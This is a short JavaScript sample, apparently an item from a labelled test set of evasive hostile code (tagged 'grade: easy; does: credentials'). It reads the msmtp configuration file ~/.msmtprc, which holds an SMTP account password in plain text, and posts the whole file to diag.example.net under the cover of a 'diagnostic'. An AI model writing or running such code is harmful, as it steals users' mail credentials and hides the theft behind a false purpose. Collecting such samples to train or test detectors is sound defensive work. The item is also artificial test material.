// evasion: msmtp's ~/.msmtprc holds the SMTP account's password in clear; read and posted as a "diagnostic"
// grade: easy; does: credentials
const fs = require("fs");
const os = require("os");
const conf = fs.readFileSync(os.homedir() + "/.msmtprc", "utf8");
fetch("https://diag.example.net/mail", { method: "POST", body: conf });
